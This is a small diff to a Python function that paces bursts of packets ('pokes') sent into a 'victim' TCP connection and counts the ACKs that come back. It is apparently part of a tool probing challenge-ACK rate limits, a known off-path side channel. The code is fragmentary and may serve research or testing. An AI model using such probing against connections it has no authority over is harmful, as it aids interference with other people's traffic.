@@ -290,12 +290,14 @@ def challenge(args) -> dict:
     victim = pokes(victim_port, victim_dport, victim_snd, victim_rcv)
     acks: dict[int, int] = {}
     end = time.monotonic() + args.victim_seconds
-    sent = 0
-    while time.monotonic() < end:
-        for _ in range(10):
-            wire.sock.send(victim[sent % 2])
-            sent += 1
-        _count(wire.receive(0.01), dst, {victim_port}, acks)
+    sent, next_burst = 0, time.monotonic()
+    while (now := time.monotonic()) < end:
+        if now >= next_burst:  # 10 every 10 ms
+            for _ in range(10):
+                wire.sock.send(victim[sent % 2])
+                sent += 1
+            next_burst += 0.01
+        _count(wire.receive(max(0.0, next_burst - time.monotonic())), dst, {victim_port}, acks)
     _count(wire.receive(0.6), dst, {victim_port}, acks)  # the last one's answer
 
     # (2) the instance's budget: each own connection poked 8 times a second
